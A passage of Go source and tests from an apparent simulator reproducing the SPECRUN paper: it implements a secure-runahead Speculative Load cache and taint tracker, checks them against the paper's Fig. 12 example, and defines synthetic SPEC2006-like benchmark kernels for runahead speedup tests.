		if c.relatedTo(e, n, inner) {
			victims = append(victims, line)
		}
	}
	for _, line := range victims {
		c.Remove(line)
		c.Stats.Deleted++
	}
	c.victims = victims[:0]
	return len(victims)
}

func (c *SLCache) relatedTo(e *SLEntry, n int, inner func(m, n int) bool) bool {
	if e.Btag.N == n || e.IS.Has(n) {
		return true
	}
	if inner == nil {
		return false
	}
	if e.Btag.N != 0 && inner(e.Btag.N, n) {
		return true
	}
	for _, m := range e.IS.Members() {
		if inner(m, n) {
			return true
		}
	}
	return false
}

// PurgeUntagged deletes entries that never pseudo-retired (wrong-path
// residue inside the runahead episode).  Called on runahead exit; the
// conservative choice is to treat them as unsafe.
func (c *SLCache) PurgeUntagged() int {
	victims := c.victims[:0]
	for line, e := range c.entries {
		if !e.Tagged {
			victims = append(victims, line)
		}
	}
	for _, line := range victims {
		c.Remove(line)
		c.Stats.Purged++
	}
	c.victims = victims[:0]
	return len(victims)
}

// Clear empties the cache (new runahead episode).
func (c *SLCache) Clear() {
	for _, e := range c.entries {
		c.pool = append(c.pool, e)
	}
	clear(c.entries)
	c.order = c.order[:0]
}

// Reset returns the cache to its just-constructed state (machine reuse).
func (c *SLCache) Reset() {
	c.Clear()
	c.Stats = SLStats{}
}

// Lines lists buffered line addresses (tests).
func (c *SLCache) Lines() []uint64 {
	out := make([]uint64, 0, len(c.entries))
	out = append(out, c.order...)
	return out
}
