package secure

import (
	"testing"
	"testing/quick"
)

func TestTaintSetBasics(t *testing.T) {
	var ts TaintSet
	if !ts.Empty() || ts.String() != "0" {
		t.Fatal("zero TaintSet must be empty")
	}
	ts = ts.Add(1).Add(5)
	if !ts.Has(1) || !ts.Has(5) || ts.Has(2) {
		t.Fatal("membership wrong")
	}
	if ts.String() != "B1,B5" {
		t.Fatalf("String = %q", ts.String())
	}
	u := ts.Union(TaintSet(0).Add(2))
	if got := u.Members(); len(got) != 3 || got[0] != 1 || got[1] != 2 || got[2] != 5 {
		t.Fatalf("Members = %v", got)
	}
}

func TestQuickTaintAlgebra(t *testing.T) {
	f := func(a, b uint64) bool {
		x, y := TaintSet(a), TaintSet(b)
		u := x.Union(y)
		for _, n := range x.Members() {
			if !u.Has(n) {
				return false
			}
		}
		for _, n := range y.Members() {
			if !u.Has(n) {
				return false
			}
		}
		return u.Union(x) == u && x.Union(x) == x
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestBtagString(t *testing.T) {
	if (Btag{}).String() != "0" {
		t.Fatal("zero Btag must print 0")
	}
	if (Btag{N: 2, M: 1}).String() != "B2,1" {
		t.Fatalf("got %q", (Btag{N: 2, M: 1}).String())
	}
}

// Register ids for the Fig. 12 machine-code example.
const (
	rA uint16 = iota + 1
	rB
	rC
	rD
	rE
	rF
	rG
	rH
	rX
	rY
	r0
	r1
	r2
	r3
	r4
	r5
	r6
	r7
	r8
	r9
	r10
	r11
	r12
	r13
	r14
)

// TestFig12TaintMarking replays the exact machine-code sequence of Fig. 12
// and checks every load's Btag and IS against the paper's table.
func TestFig12TaintMarking(t *testing.T) {
	tr := NewTracker()
	// Program layout: one instruction per 4 bytes starting at 100.
	// B1 spans (100, 200); B2 spans (124, 160) nested inside B1.
	type loadCheck struct {
		tag Btag
		is  string
	}
	var got []loadCheck
	pc := uint64(100)
	step := func() uint64 { p := pc; pc += 4; return p }

	// if (rX < size_1)  -- B1
	p := step()
	tr.Observe(p)
	b1 := tr.RegisterBranch(p, 200, true, rX)
	if b1 != 1 {
		t.Fatalf("B1 id = %d", b1)
	}
	// load r0 <- (rA)
	p = step()
	tr.Observe(p)
	tag, is := tr.OnLoad(p, tr.TaintOf(rA))
	tr.SetTaint(r0, is)
	got = append(got, loadCheck{tag, is.String()})
	// r1 = rB + rX
	p = step()
	tr.Observe(p)
	tr.Propagate(r1, rB, rX)
	// load r2 <- (r1)
	p = step()
	tr.Observe(p)
	tag, is = tr.OnLoad(p, tr.TaintOf(r1))
	tr.SetTaint(r2, is)
	got = append(got, loadCheck{tag, is.String()})
	// r3 = rC * r2
	p = step()
	tr.Observe(p)
	tr.Propagate(r3, rC, r2)
	// if (rY < size_2)  -- B2 (nested: encountered before matching B1e)
	p = step()
	tr.Observe(p)
	b2 := tr.RegisterBranch(p, 160, true, rY)
	if b2 != 2 {
		t.Fatalf("B2 id = %d", b2)
	}
	if !tr.InnerOf(2, 1) {
		t.Fatal("B2 must be recorded as nested inside B1")
	}
	// r4 = rD - rY
	p = step()
	tr.Observe(p)
	tr.Propagate(r4, rD, rY)
	// load r5 <- (r4)
	p = step()
	tr.Observe(p)
	tag, is = tr.OnLoad(p, tr.TaintOf(r4))
	tr.SetTaint(r5, is)
	got = append(got, loadCheck{tag, is.String()})
	// r6 = r5 + r2
	p = step()
	tr.Observe(p)
	tr.Propagate(r6, r5, r2)
	// load r7 <- (r6)
	p = step()
	tr.Observe(p)
	tag, is = tr.OnLoad(p, tr.TaintOf(r6))
	tr.SetTaint(r7, is)
	got = append(got, loadCheck{tag, is.String()})
	// end of B2: jump the pc cursor past 160.
	pc = 164
	// r8 = r3 - rE
	p = step()
	tr.Observe(p)
	tr.Propagate(r8, r3, rE)
	// load r9 <- (r8)
	p = step()
	tr.Observe(p)
	tag, is = tr.OnLoad(p, tr.TaintOf(r8))
	tr.SetTaint(r9, is)
	got = append(got, loadCheck{tag, is.String()})
	// end of B1.
	pc = 204
	// r10 = rF + r9
	p = step()
	tr.Observe(p)
	tr.Propagate(r10, rF, r9)
	// load r11 <- (r10)
	p = step()
	tr.Observe(p)
	tag, is = tr.OnLoad(p, tr.TaintOf(r10))
	tr.SetTaint(r11, is)
	got = append(got, loadCheck{tag, is.String()})
	// r12 = rG * r7
	p = step()
	tr.Observe(p)
	tr.Propagate(r12, rG, r7)
	// load r13 <- (r12)
	p = step()
	tr.Observe(p)
	tag, is = tr.OnLoad(p, tr.TaintOf(r12))
	tr.SetTaint(r13, is)
	got = append(got, loadCheck{tag, is.String()})
	// load r14 <- (rH)
	p = step()
	tr.Observe(p)
	tag, is = tr.OnLoad(p, tr.TaintOf(rH))
	tr.SetTaint(r14, is)
	got = append(got, loadCheck{tag, is.String()})

	want := []loadCheck{
		{Btag{1, 0}, "0"},     // load r0:  untainted, inside B1
		{Btag{1, 1}, "B1"},    // load r2:  1st USL of B1
		{Btag{2, 1}, "B2"},    // load r5:  1st USL of B2
		{Btag{2, 2}, "B1,B2"}, // load r7:  2nd USL of B2, tainted by both
		{Btag{1, 2}, "B1"},    // load r9:  2nd USL of B1
		{Btag{0, 0}, "B1"},    // load r11: outside scopes, taint escaped B1
		{Btag{0, 0}, "B1,B2"}, // load r13: outside scopes, taint escaped both
		{Btag{0, 0}, "0"},     // load r14: clean
	}
	if len(got) != len(want) {
		t.Fatalf("recorded %d loads, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i].tag != want[i].tag || got[i].is != want[i].is {
			t.Errorf("load %d: Btag=%v IS=%s, want Btag=%v IS=%s",
				i, got[i].tag, got[i].is, want[i].tag, want[i].is)
		}
	}
}

func TestTrackerBackwardBranchNoScope(t *testing.T) {
	tr := NewTracker()
	tr.Observe(100)
	n := tr.RegisterBranch(100, 50, true, rX)
	if n != 0 {
		t.Fatalf("backward branch opened scope %d", n)
	}
	// The predicate register is still tainted.
	if tr.TaintOf(rX).Empty() {
		t.Fatal("backward branch must still taint its predicate")
	}
	tr.Observe(104)
	tag, is := tr.OnLoad(104, tr.TaintOf(rX))
	if tag.N != 0 || is.Empty() {
		t.Fatalf("tag=%v is=%v", tag, is)
	}
}

func TestSLCacheInstallLookupPromote(t *testing.T) {
	c := NewSLCache(4)
	c.Install(0x1000, 50)
	if c.C() != 1 {
		t.Fatalf("C = %d, want 1", c.C())
	}
	e, ok := c.Lookup(0x1000)
	if !ok || e.FillDone != 50 {
		t.Fatalf("lookup = %+v, %v", e, ok)
	}
	c.Promote(0x1000)
	if c.C() != 0 {
		t.Fatal("promote must drain the entry")
	}
	if _, ok := c.Lookup(0x1000); ok {
		t.Fatal("promoted entry still present")
	}
	if c.Stats.Promoted != 1 {
		t.Fatal("promotion not counted")
	}
}

func TestSLCacheCapacity(t *testing.T) {
	c := NewSLCache(2)
	c.Install(0x40, 1)
	c.Install(0x80, 2)
	c.Install(0xc0, 3)
	if c.C() != 2 {
		t.Fatalf("C = %d, want 2", c.C())
	}
	if _, ok := c.Lookup(0x40); ok {
		t.Fatal("oldest entry must be evicted")
	}
}

func TestSLCacheDeleteRelated(t *testing.T) {
	tr := NewTracker()
	tr.Observe(100)
	tr.RegisterBranch(100, 300, true, rX) // B1
	tr.Observe(104)
	tr.RegisterBranch(104, 200, true, rY) // B2 inside B1

	c := NewSLCache(16)
	// Entry tainted by B1 directly.
	c.Install(0x1000, 1)
	c.Tag(0x1000, Btag{1, 1}, TaintSet(0).Add(1))
	// Entry belonging to the inner branch B2 only.
	c.Install(0x2000, 1)
	c.Tag(0x2000, Btag{2, 1}, TaintSet(0).Add(2))
	// Untainted load inside B1's scope.
	c.Install(0x3000, 1)
	c.Tag(0x3000, Btag{1, 0}, 0)
	// Clean entry outside everything.
	c.Install(0x4000, 1)
	c.Tag(0x4000, Btag{}, 0)

	// B1 mispredicted: delete entries of B1 and of its inner branch B2.
	d := c.DeleteRelated(1, tr.InnerOf)
	if d != 3 {
		t.Fatalf("deleted %d entries, want 3", d)
	}
	if _, ok := c.Lookup(0x4000); !ok {
		t.Fatal("clean entry must survive")
	}
	if c.C() != 1 {
		t.Fatalf("C = %d, want 1", c.C())
	}
}

func TestSLCacheDeleteInnerOnly(t *testing.T) {
	tr := NewTracker()
	tr.Observe(100)
	tr.RegisterBranch(100, 300, true, rX) // B1
	tr.Observe(104)
	tr.RegisterBranch(104, 200, true, rY) // B2 inside B1

	c := NewSLCache(16)
	c.Install(0x1000, 1)
	c.Tag(0x1000, Btag{1, 1}, TaintSet(0).Add(1))
	c.Install(0x2000, 1)
	c.Tag(0x2000, Btag{2, 1}, TaintSet(0).Add(2))

	// Only the inner branch mispredicted: B1's entries survive.
	d := c.DeleteRelated(2, tr.InnerOf)
	if d != 1 {
		t.Fatalf("deleted %d, want 1", d)
	}
	if _, ok := c.Lookup(0x1000); !ok {
		t.Fatal("outer branch entry must survive inner misprediction")
	}
}

func TestSLCachePurgeUntagged(t *testing.T) {
	c := NewSLCache(8)
	c.Install(0x1000, 1)
	c.Install(0x2000, 1)
	c.Tag(0x2000, Btag{}, 0)
	if n := c.PurgeUntagged(); n != 1 {
		t.Fatalf("purged %d, want 1", n)
	}
	if _, ok := c.Lookup(0x2000); !ok {
		t.Fatal("tagged entry must survive purge")
	}
}

func TestSLCacheTagMerge(t *testing.T) {
	c := NewSLCache(8)
	c.Install(0x1000, 1)
	c.Tag(0x1000, Btag{}, 0)
	c.Tag(0x1000, Btag{1, 1}, TaintSet(0).Add(1))
	e, _ := c.Lookup(0x1000)
	if e.Btag.N != 1 || !e.IS.Has(1) {
		t.Fatalf("merged tag = %+v", e)
	}
}
