// Package secure implements the secure runahead execution scheme of §6 of
// the SPECRUN paper: a Speculative Load cache (SL cache) that hides runahead
// fills from the memory hierarchy, a taint tracker that assigns the Btag and
// IS tags of Fig. 12, and the post-exit load path of Algorithm 1 that gates
// promotion of SL entries into L1 on branch resolution.
package secure

import (
	"fmt"
	"slices"
	"strings"
)

// TaintSet is a set of branch-scope identifiers (B1..B63) carried by data
// derived from the predicate registers of unresolved branches.  The zero
// value is the empty set ("not tainted").
type TaintSet uint64

// Add returns the set with Bn included.
func (t TaintSet) Add(n int) TaintSet { return t | 1<<uint(n) }

// Has reports whether Bn is in the set.
func (t TaintSet) Has(n int) bool { return t&(1<<uint(n)) != 0 }

// Union merges two sets.
func (t TaintSet) Union(o TaintSet) TaintSet { return t | o }

// Empty reports whether the set is empty (IS = 0 in the paper's notation).
func (t TaintSet) Empty() bool { return t == 0 }

// Members lists the branch ids in ascending order.
func (t TaintSet) Members() []int {
	var out []int
	for n := 1; n < 64; n++ {
		if t.Has(n) {
			out = append(out, n)
		}
	}
	return out
}

func (t TaintSet) String() string {
	if t.Empty() {
		return "0"
	}
	parts := make([]string, 0, 4)
	for _, n := range t.Members() {
		parts = append(parts, fmt.Sprintf("B%d", n))
	}
	return strings.Join(parts, ",")
}

// Btag identifies a load's position relative to branch scopes, per Fig. 12:
// Btag = B{n,m} marks the m'th unsafe speculative load (USL) within the
// scope of branch Bn; m = 0 marks an untainted load inside the scope; the
// zero Btag marks a load outside every branch scope.
type Btag struct {
	N int // branch scope id (0 = outside any scope)
	M int // USL ordinal within the scope (0 = untainted)
}

func (b Btag) String() string {
	if b.N == 0 {
		return "0"
	}
	return fmt.Sprintf("B%d,%d", b.N, b.M)
}

// Scope is one branch Bn with its static extent [Start, End) derived from
// the compiled code (Bns and Bne in the paper's terminology).
type Scope struct {
	N         int
	Start     uint64 // PC of the branch instruction (Bns)
	End       uint64 // first PC past the branch body (Bne)
	PredTaken bool   // direction predicted during runahead
	Parent    int    // enclosing scope id, 0 if top level
	Resolved  bool
	Correct   bool
}

// Tracker performs the taint tracking of §6 during one runahead episode.
// It observes pseudo-retired instructions in program order, maintains the
// open-scope stack (matching Bne addresses, including the nested-branch rule
// from the paper), propagates taint from the predicate registers of
// unresolved branches, and produces the Btag and IS tags for every load.
//
// Register taints are keyed by an opaque register id supplied by the caller
// (the CPU uses its architectural register numbering).
type Tracker struct {
	nextN    int
	scopes   map[int]*Scope
	open     []*Scope // innermost last
	regTaint map[uint16]TaintSet
	uslCount map[int]int
	pool     []*Scope // scopes freed by Reset, reused by RegisterBranch
	sorted   []*Scope // scratch for Scopes()
}

// NewTracker returns a tracker for a fresh runahead episode.
func NewTracker() *Tracker {
	return &Tracker{
		scopes:   make(map[int]*Scope),
		regTaint: make(map[uint16]TaintSet),
		uslCount: make(map[int]int),
	}
}

// Reset returns the tracker to its just-constructed state.  The CPU calls it
// at every runahead-episode entry instead of building a fresh tracker; map
// buckets and scope structs are retained, so an episode allocates only when
// it opens more scopes than any episode before it.
func (t *Tracker) Reset() {
	t.nextN = 0
	for _, s := range t.scopes {
		t.pool = append(t.pool, s)
	}
	clear(t.scopes)
	t.open = t.open[:0]
	clear(t.regTaint)
	clear(t.uslCount)
}

// Observe must be called with the PC of every pseudo-retired instruction
// before the instruction's own hooks; it closes scopes whose end address has
// been reached (the processor "matching Bne").
func (t *Tracker) Observe(pc uint64) {
	for len(t.open) > 0 {
		in := t.open[len(t.open)-1]
		if pc >= in.End || pc < in.Start {
			t.open = t.open[:len(t.open)-1]
			continue
		}
		break
	}
}

// RegisterBranch opens a new scope Bn for an unresolved branch at pc whose
// body extends to end, and taints the predicate registers.  Backward
// branches (end <= pc) taint their predicates but open no scope, since the
// paper's Bns/Bne matching is defined for forward bodies.  The scope id is
// returned (0 if no scope was opened).
func (t *Tracker) RegisterBranch(pc, end uint64, predTaken bool, predRegs ...uint16) int {
	if t.nextN >= 63 {
		return 0 // episode exhausted its tag space; remaining loads stay conservative
	}
	t.nextN++
	n := t.nextN
	for _, r := range predRegs {
		t.regTaint[r] = t.regTaint[r].Add(n)
	}
	if end <= pc {
		return 0
	}
	parent := 0
	if len(t.open) > 0 {
		parent = t.open[len(t.open)-1].N
	}
	var s *Scope
	if l := len(t.pool); l > 0 {
		s = t.pool[l-1]
		t.pool = t.pool[:l-1]
		*s = Scope{N: n, Start: pc, End: end, PredTaken: predTaken, Parent: parent}
	} else {
		s = &Scope{N: n, Start: pc, End: end, PredTaken: predTaken, Parent: parent}
	}
	t.scopes[n] = s
	t.open = append(t.open, s)
	return n
}

// TaintOf returns the current taint of a register.
func (t *Tracker) TaintOf(reg uint16) TaintSet { return t.regTaint[reg] }

// Propagate records that dest was computed from the given source registers:
// dest's taint becomes the union of the sources' taints.
func (t *Tracker) Propagate(dest uint16, srcs ...uint16) TaintSet {
	var ts TaintSet
	for _, s := range srcs {
		ts = ts.Union(t.regTaint[s])
	}
	t.setTaint(dest, ts)
	return ts
}

// SetTaint overrides a register's taint (used for load results, whose taint
// is their address taint).
func (t *Tracker) SetTaint(reg uint16, ts TaintSet) { t.setTaint(reg, ts) }

func (t *Tracker) setTaint(reg uint16, ts TaintSet) {
	if ts.Empty() {
		delete(t.regTaint, reg)
		return
	}
	t.regTaint[reg] = ts
}

// OnLoad computes the Btag and IS tags for a pseudo-retired load at pc whose
// address registers carry addrTaint.  Per Fig. 12: inside scope Bn a tainted
// load is B{n,m} (m counting USLs in that scope), an untainted load is
// B{n,0}; outside any scope Btag is 0.  IS is the address taint itself.
func (t *Tracker) OnLoad(pc uint64, addrTaint TaintSet) (Btag, TaintSet) {
	var tag Btag
	if len(t.open) > 0 {
		in := t.open[len(t.open)-1]
		tag.N = in.N
		if !addrTaint.Empty() {
			t.uslCount[in.N]++
			tag.M = t.uslCount[in.N]
		}
	}
	return tag, addrTaint
}

// Scopes returns all scopes opened during the episode, ordered by id.  The
// returned slice is reused by the next call (the CPU consumes it within one
// commit step).
func (t *Tracker) Scopes() []*Scope {
	out := t.sorted[:0]
	for _, s := range t.scopes {
		out = append(out, s)
	}
	slices.SortFunc(out, func(a, b *Scope) int { return a.N - b.N })
	t.sorted = out
	return out
}

// Scope returns scope n, or nil.
func (t *Tracker) Scope(n int) *Scope { return t.scopes[n] }

// InnerOf reports whether scope m is nested (transitively) inside scope n.
func (t *Tracker) InnerOf(m, n int) bool {
	s := t.scopes[m]
	for s != nil && s.Parent != 0 {
		if s.Parent == n {
			return true
		}
		s = t.scopes[s.Parent]
	}
	return false
}
