package workload

import (
	"testing"

	"specrun/internal/cpu"
	"specrun/internal/iss"
	"specrun/internal/runahead"
)

func TestKernelsBuild(t *testing.T) {
	ks := Kernels()
	if len(ks) != 6 {
		t.Fatalf("want the paper's 6 benchmarks, got %d", len(ks))
	}
	names := map[string]bool{}
	for _, k := range ks {
		p := k.Build()
		if len(p.Insts) == 0 {
			t.Errorf("%s: empty program", k.Name)
		}
		if names[k.Name] {
			t.Errorf("duplicate kernel name %q", k.Name)
		}
		names[k.Name] = true
	}
	for _, want := range []string{"zeusm", "wrf", "bwave", "lbm", "mcf", "Gems"} {
		if !names[want] {
			t.Errorf("missing Fig. 7 benchmark %q", want)
		}
	}
}

func TestByName(t *testing.T) {
	if _, err := ByName("mcf"); err != nil {
		t.Fatal(err)
	}
	if _, err := ByName("nope"); err == nil {
		t.Fatal("unknown kernel must fail")
	}
}

// Every kernel must terminate on the reference interpreter (a generator bug
// producing an endless loop would silently ruin the IPC experiment).
func TestKernelsTerminateOnISS(t *testing.T) {
	for _, k := range Kernels() {
		k := k
		t.Run(k.Name, func(t *testing.T) {
			it := iss.New(k.Build())
			if err := it.Run(5_000_000); err != nil {
				t.Fatalf("%s: %v", k.Name, err)
			}
		})
	}
}

// The kernels must be deterministic: two builds produce identical programs.
func TestKernelsDeterministic(t *testing.T) {
	for _, k := range Kernels() {
		a, b := k.Build(), k.Build()
		if len(a.Insts) != len(b.Insts) {
			t.Fatalf("%s: nondeterministic size", k.Name)
		}
		for i := range a.Insts {
			if a.Insts[i] != b.Insts[i] {
				t.Fatalf("%s: nondeterministic instruction %d", k.Name, i)
			}
		}
	}
}

// The headline Fig. 7 property: every kernel runs at least as fast with
// runahead as without, and the chase-free streaming kernels gain clearly.
func TestRunaheadNeverLoses(t *testing.T) {
	if testing.Short() {
		t.Skip("full Fig. 7 sweep is slow")
	}
	for _, k := range Kernels() {
		k := k
		t.Run(k.Name, func(t *testing.T) {
			var cycles [2]uint64
			for i, kind := range []runahead.Kind{runahead.KindNone, runahead.KindOriginal} {
				cfg := cpu.DefaultConfig()
				cfg.Runahead.Kind = kind
				c := cpu.New(cfg, k.Build())
				if err := c.Run(50_000_000); err != nil {
					t.Fatal(err)
				}
				cycles[i] = c.Stats().Cycles
			}
			ratio := float64(cycles[0]) / float64(cycles[1])
			t.Logf("%s: base=%d runahead=%d ratio=%.3f", k.Name, cycles[0], cycles[1], ratio)
			if ratio < 1.0 {
				t.Errorf("%s: runahead slower than baseline (%.3f)", k.Name, ratio)
			}
		})
	}
}
