package workload

import (
	"fmt"
	"os"
	"testing"

	"specrun/internal/cpu"
	"specrun/internal/isa"
	"specrun/internal/runahead"
)

// TestScanParams is a tuning aid (run with -scan) that sweeps kernel
// parameters and prints the runahead speedup for each point.
func TestScanParams(t *testing.T) {
	if os.Getenv("SPECRUN_SCAN") == "" {
		t.Skip("tuning aid; set SPECRUN_SCAN=1 to run the parameter sweep")
	}
	run := func(s spec) (base, ra uint64) {
		for i, kind := range []runahead.Kind{runahead.KindNone, runahead.KindOriginal} {
			cfg := cpu.DefaultConfig()
			cfg.Runahead.Kind = kind
			c := cpu.New(cfg, emit(s))
			if err := c.Run(50_000_000); err != nil {
				t.Fatal(err)
			}
			if i == 0 {
				base = c.Stats().Cycles
			} else {
				ra = c.Stats().Cycles
			}
		}
		return
	}
	for _, stride := range []int64{8, 12, 16, 24, 32, 48, 64} {
		for _, filler := range []int{30, 60, 100} {
			s := spec{
				iters:   600,
				stride:  stride,
				streams: []isa.Reg{wB1, wB2, wB3},
				filler:  filler,
				fpWork:  3,
				store:   true,
			}
			base, ra := run(s)
			fmt.Printf("stride=%2d filler=%3d base=%6d ra=%6d ratio=%.3f\n",
				stride, filler, base, ra, float64(base)/float64(ra))
		}
	}
}
