// Package workload provides the six SPEC2006-like kernels used to reproduce
// Fig. 7 of the SPECRUN paper (normalized IPC with and without runahead
// execution).
//
// The real evaluation ran SPEC CPU2006 binaries (zeusmp, wrf, bwaves, lbm,
// mcf, GemsFDTD) under Multi2Sim.  Those binaries cannot run on this ISA, so
// each kernel below is a synthetic loop with the memory character the
// benchmark is known for — streaming (bwaves, lbm), stencil (zeusmp, wrf,
// GemsFDTD) and pointer chasing (mcf).  Loop bodies carry a realistic amount
// of non-memory work (real SPEC iterations are 50–200 instructions), which
// is what limits how many misses the 256-entry reorder buffer can overlap —
// precisely the gap runahead execution exists to close.  Fig. 7 is a
// *relative* comparison, which this preserves: runahead wins where bodies
// are large and miss-dense, and wins little where compute dominates
// (zeusmp/wrf) or where the miss chain is pointer-dependent (mcf).
package workload

import (
	"fmt"
	"math/rand"

	"specrun/internal/asm"
	"specrun/internal/isa"
)

// Kernel is a named workload generator.
type Kernel struct {
	Name  string
	Descr string
	Build func() *asm.Program
}

// Kernels returns the Fig. 7 benchmark list in the paper's order.
func Kernels() []Kernel {
	return []Kernel{
		{"zeusm", "stencil, compute-heavy body (modest miss density)", Zeusmp},
		{"wrf", "two-stream sweep, mixed arithmetic", WRF},
		{"bwave", "three-stream FP triad, unit stride", Bwaves},
		{"lbm", "lattice update: five read streams, one write stream", LBM},
		{"mcf", "pointer chasing with independent payload streams", MCF},
		{"Gems", "FDTD-like large-stride sweep, four streams", Gems},
	}
}

// ByName finds a kernel.
func ByName(name string) (Kernel, error) {
	for _, k := range Kernels() {
		if k.Name == name {
			return k, nil
		}
	}
	return Kernel{}, fmt.Errorf("workload: unknown kernel %q", name)
}

// Register conventions for kernels: r1..r6 stream bases, r10 loop counter,
// r11..r15 scratch.
var (
	wB1  = isa.R(1)
	wB2  = isa.R(2)
	wB3  = isa.R(3)
	wB4  = isa.R(4)
	wB5  = isa.R(5)
	wB6  = isa.R(6)
	wCtr = isa.R(10)
	wS1  = isa.R(11)
	wS2  = isa.R(12)
	wS3  = isa.R(13)
	wOff = isa.R(14)
	wS4  = isa.R(15)
)

func newBuilder() *asm.Builder { return asm.NewBuilder(0x1000, 0x200000) }

// spec describes a synthetic kernel loop.
type spec struct {
	iters       int       // loop trips
	stride      int64     // bytes advanced per stream per trip
	streams     []isa.Reg // stream base registers (loads; first one also stored)
	filler      int       // independent work instructions per trip (body size)
	fpWork      int       // independent FP ops per trip
	store       bool      // write back to the first stream
	chase       bool      // first "stream" is a pointer chase (mcf)
	cluster     int       // chase nodes per cache line (default 4)
	computeIter int       // trips of a pure-compute epilogue loop (dilution)
}

// emit builds the kernel loop: per trip, one load per stream, a reduction,
// the body's filler work, optional store, and the stream advances.
func emit(s spec) *asm.Program {
	b := newBuilder()
	var bases []uint64
	footprint := uint64(s.iters)*uint64(s.stride) + 256
	for i := range s.streams {
		bases = append(bases, b.Alloc(fmt.Sprintf("s%d", i), footprint, 64))
	}
	var ringStart uint64
	if s.chase {
		cl := s.cluster
		if cl == 0 {
			cl = 4
		}
		ringStart = buildRing(b, bases[0], s.iters, s.stride, cl)
	}
	for i, r := range s.streams {
		if s.chase && i == 0 {
			b.MoviAddr(r, ringStart)
			continue
		}
		b.MoviAddr(r, bases[i])
	}
	b.Fmovi(isa.F(1), 1.0)
	b.Fmovi(isa.F(2), 0.5)
	b.Movi(wCtr, int64(s.iters-1))
	b.Label("loop")
	// Stream loads: independent misses runahead can expose.
	scratch := []isa.Reg{wS1, wS2, wS3, wS4}
	for i, r := range s.streams {
		if s.chase && i == 0 {
			b.Ld(r, r, 0) // the chase: serial and unprefetchable
			continue
		}
		b.Ld(scratch[i%len(scratch)], r, 0)
	}
	// A small reduction consumes the loads.
	b.Add(wS1, wS1, wS2)
	b.Add(wS3, wS3, wS4)
	b.Add(wS1, wS1, wS3)
	if s.store {
		b.St(s.streams[len(s.streams)-1], 8, wS1)
	}
	// Independent FP and integer work (body size: what bounds how many trips
	// fit in the reorder buffer).  The work is spread across registers so it
	// neither serialises the baseline nor throttles pseudo-retirement.
	for i := 0; i < s.fpWork; i++ {
		f := isa.F(3 + i%4)
		b.Fadd(f, f, isa.F(2))
	}
	for i := 0; i < s.filler; i++ {
		switch i % 4 {
		case 0:
			r := isa.R(20 + i%8)
			b.Addi(r, r, 1)
		default:
			b.Nop()
		}
	}
	for i, r := range s.streams {
		if s.chase && i == 0 {
			continue
		}
		b.Addi(r, r, s.stride)
	}
	b.Addi(wCtr, wCtr, -1)
	b.Bne(wCtr, isa.R(0), "loop")
	// Pure-compute epilogue: the non-memory phase every real benchmark has.
	if s.computeIter > 0 {
		b.Movi(wCtr, int64(s.computeIter))
		b.Label("compute")
		for i := 0; i < 12; i++ {
			r := isa.R(20 + i%8)
			b.Addi(r, r, 3)
		}
		f := isa.F(3)
		b.Fadd(f, f, isa.F(2))
		b.Addi(wCtr, wCtr, -1)
		b.Bne(wCtr, isa.R(0), "compute")
	}
	b.Halt()
	return b.MustBuild()
}

// buildRing lays a pseudo-random cycle of next-pointers over the first
// stream's footprint and returns the entry node.  Nodes cluster four per
// cache line (mcf's arcs have spatial locality): three hops stay within the
// line, the fourth jumps to a random new line, so the chase misses once per
// four nodes.
func buildRing(b *asm.Builder, base uint64, nodes int, stride int64, cluster int) uint64 {
	groups := nodes / cluster
	if groups == 0 {
		groups = 1
	}
	perm := rand.New(rand.NewSource(7)).Perm(groups)
	sub8 := 64 / cluster
	addr := func(g, sub int) uint64 { return base + uint64(g)*uint64(stride) + uint64(sub*sub8) }
	for i := 0; i < groups; i++ {
		g := perm[i]
		for sub := 0; sub < cluster-1; sub++ {
			b.U64(addr(g, sub), addr(g, sub+1))
		}
		b.U64(addr(g, cluster-1), addr(perm[(i+1)%groups], 0))
	}
	return addr(perm[0], 0)
}

// Zeusmp: compute-heavy stencil — two streams, a long body dominated by
// arithmetic.  Runahead has little memory-level parallelism left to expose.
func Zeusmp() *asm.Program {
	return emit(spec{
		iters:       400,
		stride:      8,
		streams:     []isa.Reg{wB1, wB2, wB3},
		filler:      30,
		fpWork:      3,
		store:       true,
		computeIter: 4500,
	})
}

// WRF: two streams with a medium body.
func WRF() *asm.Program {
	return emit(spec{
		iters:       400,
		stride:      8,
		streams:     []isa.Reg{wB1, wB2, wB3},
		filler:      30,
		fpWork:      3,
		store:       true,
		computeIter: 1800,
	})
}

// Bwaves: three-stream triad with a large body — classic streaming code
// where the window covers too few iterations to hide memory.
func Bwaves() *asm.Program {
	return emit(spec{
		iters:   700,
		stride:  8,
		streams: []isa.Reg{wB1, wB2, wB3},
		filler:  30,
		fpWork:  3,
		store:   true,
	})
}

// LBM: six streams (five read, one written), big body.
func LBM() *asm.Program {
	return emit(spec{
		iters:       500,
		stride:      16,
		streams:     []isa.Reg{wB1, wB2, wB3, wB4},
		filler:      60,
		fpWork:      2,
		store:       true,
		computeIter: 10000,
	})
}

// MCF: a pointer chase (which runahead cannot follow — the chased address is
// INV) plus two independent payload streams (which it can).
func MCF() *asm.Program {
	return emit(spec{
		iters:       600,
		stride:      32,
		streams:     []isa.Reg{wB1, wB2, wB3},
		filler:      30,
		fpWork:      3,
		chase:       true,
		cluster:     16,
		computeIter: 9000,
	})
}

// Gems: four large-stride streams, minimal compute — the most memory-bound
// kernel and the largest runahead win.
func Gems() *asm.Program {
	return emit(spec{
		iters:   600,
		stride:  24,
		streams: []isa.Reg{wB1, wB2, wB3, wB4},
		filler:  100,
		fpWork:  2,
		store:   true,
	})
}
