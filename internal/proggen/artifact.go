package proggen

import "specrun/internal/prog"

// Artifact renders a generated program in interchange form: the canonical
// .sprog binary (internal/prog) and its disassembly.  This is how fuzz/leak
// reproducers become shippable artifacts — the binary re-runs anywhere
// (specrun run, POST /v1/run/program) without the generator or its seed.
func Artifact(seed int64, opt Options) (bin []byte, text string, err error) {
	p := Generate(seed, opt)
	bin, err = prog.Encode(p)
	if err != nil {
		return nil, "", err
	}
	return bin, p.Disassemble(), nil
}
