package proggen

import (
	"testing"

	"specrun/internal/iss"
)

func TestGenerateDeterministic(t *testing.T) {
	a := Generate(7, DefaultOptions())
	b := Generate(7, DefaultOptions())
	if len(a.Insts) != len(b.Insts) {
		t.Fatal("same seed, different size")
	}
	for i := range a.Insts {
		if a.Insts[i] != b.Insts[i] {
			t.Fatalf("same seed, different instruction at %d", i)
		}
	}
	c := Generate(8, DefaultOptions())
	same := len(a.Insts) == len(c.Insts)
	if same {
